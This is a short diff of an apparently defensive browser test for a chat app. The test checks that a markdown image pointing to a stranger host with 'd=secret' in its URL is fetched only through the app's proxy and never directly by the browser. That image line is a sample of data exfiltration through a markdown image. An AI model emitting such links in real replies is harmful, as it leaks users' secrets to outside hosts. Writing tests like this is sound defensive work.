@@ -126,7 +126,7 @@ test("hundreds of outputs that mean to carry something out carry nothing out", {
 
 test("an image of a stranger is asked of the house when a person wants it, and never of the stranger by the browser", async () => {
   const filled = await fill([`![A chart](${stranger.address}/chart.png?d=secret)`], provider.address)
-  const watch = await openWatch(browser, HOUSE)
+  const watch = await openWatch(browser, HOUSE, { keepsApp: false })
   const asked: string[] = []
   watch.page.on("request", (request) => request.url().endsWith("/foreign-pictures") && asked.push(request.postData() ?? ""))
   await watch.page.goto(`${HOUSE}/c/${filled.conversation}`)
